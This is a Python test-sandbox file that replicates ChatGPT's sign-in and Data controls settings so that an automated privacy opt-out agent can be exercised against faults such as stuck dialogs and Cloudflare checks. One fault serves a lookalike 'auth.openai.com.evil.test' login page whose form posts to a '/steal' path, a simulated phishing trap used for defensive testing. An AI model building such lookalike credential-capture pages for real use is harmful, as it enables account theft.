"""ChatGPT replica: OpenAI's sign-in (e-mail, then password, sometimes an e-mailed code or a
Cloudflare check) at auth.openai.com, and Settings → Data controls on chatgpt.com.

A signed-out visitor gets ChatGPT too, with "Log in" / "Sign up" buttons and a per-browser copy of
"Improve the model for everyone" (docs/research/platforms.md §8): reading that one would say nothing about the
account, so flipping it is recorded as a `browser_toggle` event that tests require never happens.

Signed in, Data controls shows a row "Improve the model for everyone" (with On/Off); clicking it
opens a dialog holding the switch, closed with "Done" (docs/research/evidence-2026-12.md: pureinfotech.com,
amkstation.com). The switch saves as it flips, as OpenAI's PATCH …account_user_setting does. Under
`dialog_stuck` the switch flips on screen only and "Done" does not close the dialog. Under
`row_button` the row's label is inert text and only the button at its right ("On ›") opens the
dialog (issue 24: the shape guides show); `row_ambiguous` adds a second button to that row.
Paths other than those in docs/research/platforms.md (the sign-in callback, the save endpoint's body) are the
replica's own."""

from __future__ import annotations

import html
from urllib.parse import urlsplit

from optout.sandbox.chatgpt_codex import CODEX_PATH, CODEX_SETTINGS, codex_settings
from optout.sandbox.kit import challenge
from optout.sandbox.kit.assistant import Toggle, rows, save, session_callback, settings_page
from optout.sandbox.replica import Replica, Request, Response, page, redirect

SETTINGS_PATH = "/settings/data-controls"
SAVE_PATH = "/backend-api/settings/account_user_setting"
AUTH = "https://auth.openai.com"
LOOKALIKE_HOST = "auth.openai.com.evil.test"
COOKIE = "chatgpt_session"
TOGGLES = [
    Toggle(
        "improve-model",
        "Improve the model for everyone",
        changed="Share your chats to make ChatGPT better",
        foreign="Améliorer le modèle pour tous",
        hint="Allow your content to be used to train our models, which makes ChatGPT better for you and "
        "everyone who uses it.",
    )
]
CLOUDFLARE = (
    '<iframe title="Widget containing a Cloudflare security challenge" '
    'src="https://challenges.cloudflare.com/cdn-cgi/challenge-platform/"></iframe>'
)


class ChatGPT(Replica):
    platform = "chatgpt"
    hosts = ("chatgpt.com", "auth.openai.com", LOOKALIKE_HOST)
    settings = ("improve-model",) + CODEX_SETTINGS
    session_cookie = (COOKIE, "chatgpt.com")

    def user(self, req: Request) -> str | None:
        return self.session_user(req.cookies.get(COOKIE))

    def handle(self, req: Request) -> Response:
        host = urlsplit(req.url).hostname
        if host == LOOKALIKE_HOST:
            return self.email_page(lookalike=True)
        if host == "auth.openai.com":
            return self.auth(req)
        if (
            self.misbehaves("cloudflare")
            and req.method == "GET"
            and not challenge.cleared(self, "bot_check", req)
        ):
            return self.interstitial(req)
        if req.path == "/auth/login":
            return redirect(f"{AUTH}/log-in")
        if req.path == "/api/auth/callback/openai":
            return session_callback(self, req, COOKIE, signed_out="/auth/login")
        if req.path == "/":
            return self.home(req)
        if req.path == SETTINGS_PATH:
            return self.data_controls(req)
        if req.path == CODEX_PATH:
            return codex_settings(self, req, self.user(req), save_path=SAVE_PATH)
        if req.path == SAVE_PATH and req.method == "POST":
            return save(self, req, self.user(req))
        if req.path == "/backend-api/stray-click" and req.method == "POST":
            self.event("stray_click")
            return Response(body='{"ok":true}', content_type="application/json")
        if req.path == "/backend-api/browser-setting" and req.method == "POST":
            self.event("browser_toggle", on=bool((req.json or {}).get("on")))
            return Response(body='{"ok":true}', content_type="application/json")
        return Response(status=404, body="<h1>404 Not Found</h1>")

    def interstitial(self, req: Request) -> Response:
        """cloudflare: Cloudflare's check before chatgpt.com's pages (texts as its interstitial
        shows them; a Turnstile frame from challenges.cloudflare.com); a person's click clears it."""
        token, _ = challenge.start(self, "bot_check", None, req.url, then="clear")
        frame = CLOUDFLARE.replace(
            "/cdn-cgi/challenge-platform/", "/cdn-cgi/challenge-platform/h/b/turnstile/"
        )
        return page(
            f"""<h1>chatgpt.com</h1><h2>Verify you are human by completing the action below.</h2>{frame}
<p>chatgpt.com needs to review the security of your connection before proceeding.</p>""",
            title="Just a moment...",
            script=challenge.script(token),
        )

    # --- sign-in at auth.openai.com --------------------------------------------------------------

    def auth(self, req: Request) -> Response:
        if req.path in ("/log-in", "/log-in-or-create-account"):
            if self.misbehaves("lookalike_login"):
                return redirect(f"https://{LOOKALIKE_HOST}/log-in")
            return self.email_page()
        if req.path == "/log-in/password" and req.method == "POST":
            return self.password_page(req.form.get("email", ""))
        if req.path == "/log-in/password/verify" and req.method == "POST":
            return self.verify_password(req)
        if req.path == "/email-verification":
            return page(
                """<h1>Check your inbox</h1><p>Enter the verification code we just sent to your email.</p>
<label for="code">Code</label><input id="code" name="code" inputmode="numeric"><button type="submit">Continue</button>""",
                title="Check your inbox - OpenAI",
            )
        return Response(status=404, body="<h1>404 Not Found</h1>")

    def email_page(self, *, lookalike: bool = False) -> Response:
        action = f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/log-in/password"
        return page(
            f"""<h1>Welcome back</h1>
<form method="post" action="{action}">
  <label for="email">Email address</label><input id="email" name="email" type="email" autocomplete="email">
  <button type="submit">Continue</button>
</form>
<p>OR</p><button type="button">Continue with Google</button><button type="button">Continue with Microsoft Account</button>""",
            title="Log in - OpenAI",
        )

    def password_page(self, email: str, error: str = "") -> Response:
        return page(
            f"""<h1>Enter your password</h1>
<form method="post" action="/log-in/password/verify">
  <input type="hidden" name="email" value="{html.escape(email)}">
  <p>{html.escape(email)}</p>
  <label for="password">Password</label><input id="password" name="password" type="password" autocomplete="current-password">
  <p role="alert">{html.escape(error)}</p>
  <button type="submit">Continue</button>
</form>""",
            title="Enter your password - OpenAI",
        )

    def verify_password(self, req: Request) -> Response:
        email, password = req.form.get("email", ""), req.form.get("password", "")
        ok = self.check_password(email, password)
        if not ok:
            return self.password_page(email, error="Incorrect email address or password")
        if self.misbehaves("checkpoint"):
            return page(f"<h1>Verify you are human</h1>{CLOUDFLARE}", title="Just a moment...")
        if self.misbehaves("two_factor"):
            return redirect("/email-verification")
        return redirect(
            f"https://chatgpt.com/api/auth/callback/openai?token={self.new_session(email)}"
        )

    # --- chatgpt.com ---------------------------------------------------------------------------

    def signed_out_header(self) -> str:
        return (
            '<header><button type="button" onclick="location.href=\'/auth/login\'">Log in</button>'
            '<button type="button">Sign up for free</button></header>'
        )

    def home(self, req: Request) -> Response:
        if self.user(req) is None:
            return page(
                self.signed_out_header() + "<h1>What can I help with?</h1>", title="ChatGPT"
            )
        return page(
            "<h1>What can I help with?</h1><textarea aria-label='Message ChatGPT'></textarea>",
            title="ChatGPT",
        )

    def data_controls(self, req: Request) -> Response:
        user = self.user(req)
        if user is None:
            # Signed out: ChatGPT still answers, and keeps this browser's own choice.
            return page(
                self.signed_out_header()
                + """
<div role="dialog" aria-label="Settings"><h2>Data controls</h2>
<div class="row"><span id="browser-label">Improve the model for everyone</span>
<button type="button" role="switch" aria-checked="true" aria-labelledby="browser-label" id="browser"></button></div></div>""",
                title="ChatGPT",
                script="""
document.getElementById('browser').addEventListener('click', async (e) => {
  const on = e.target.getAttribute('aria-checked') !== 'true';
  e.target.setAttribute('aria-checked', String(on));
  await fetch('/backend-api/browser-setting', {method: 'POST', headers: {'content-type': 'application/json'},
    body: JSON.stringify({on})});
});""",
            )
        tabs = (
            '<div role="tablist"><button role="tab" aria-selected="false">General</button>'
            '<button role="tab" aria-selected="false">Personalization</button>'
            '<button role="tab" aria-selected="true">Data controls</button></div>'
        )
        values = self.settings_of(user)
        toggle = TOGGLES[0]
        row_label = (
            toggle.foreign
            if self.misbehaves("language")
            else toggle.changed
            if self.misbehaves("label_gone")
            else toggle.label
        )
        switch = rows(TOGGLES, values, self)
        on = 'aria-checked="true"' in switch
        if self.misbehaves(
            "dialog_stuck"
        ):  # the switch flips on screen; only Done would send it, and Done fails
            switch = switch.replace("data-setting=", "data-held=")
        state = "On" if on else "Off"
        row = (
            ""
            if self.misbehaves("absent")
            else f"""
<button type="button" class="row" id="open-improve" aria-haspopup="dialog" style="width:100%;background:none;border:0">
<span>{html.escape(row_label)}</span><span>{state}</span></button>"""
        )
        if self.misbehaves("row_button") or self.misbehaves("row_ambiguous"):
            # The label is inert text; only the button at the row's right ("On ›") opens the dialog.
            # row_ambiguous adds a second button to the row that must never be clicked.
            stray = (
                '<button type="button" id="stray">Learn more</button>'
                if self.misbehaves("row_ambiguous")
                else ""
            )
            row = f"""
<div class="row" style="display:flex;justify-content:space-between"><div><span>{html.escape(row_label)}</span></div>
<div>{stray}<button type="button" id="open-improve" aria-haspopup="dialog">{state} ›</button></div></div>"""
        body = f"""<div role="dialog" aria-label="Settings"><h2>Settings</h2>{tabs}
<section><h3>Data controls</h3>{row}
<div class="row"><span>Shared links</span><button type="button">Manage</button></div>
<div class="row"><span>Export data</span><button type="button">Export</button></div></section></div>
<div role="dialog" aria-modal="true" aria-labelledby="improve-title" id="improve" hidden>
<h2 id="improve-title">Model improvement</h2>{switch}
<p>Your chats are used to improve our models when this is on.</p>
<button type="button" id="done">Done</button></div>"""
        script = """
const dialog = document.getElementById('improve'), opener = document.getElementById('open-improve');
if (opener) opener.addEventListener('click', () => { dialog.hidden = false; });
const stray = document.getElementById('stray');
if (stray) stray.addEventListener('click', () => fetch('/backend-api/stray-click', {method: 'POST'}));
document.querySelectorAll('button[role=switch][data-held]').forEach(sw => sw.addEventListener('click', () =>
  sw.setAttribute('aria-checked', String(sw.getAttribute('aria-checked') !== 'true'))));
document.getElementById('done').addEventListener('click', () => {
  if (document.querySelector('[data-held]')) {
    document.getElementById('toast').textContent = 'Something went wrong. Try again.';
    return;
  }
  dialog.hidden = true;
});"""
        return settings_page(self, body, title="ChatGPT", save_path=SAVE_PATH, extra_script=script)
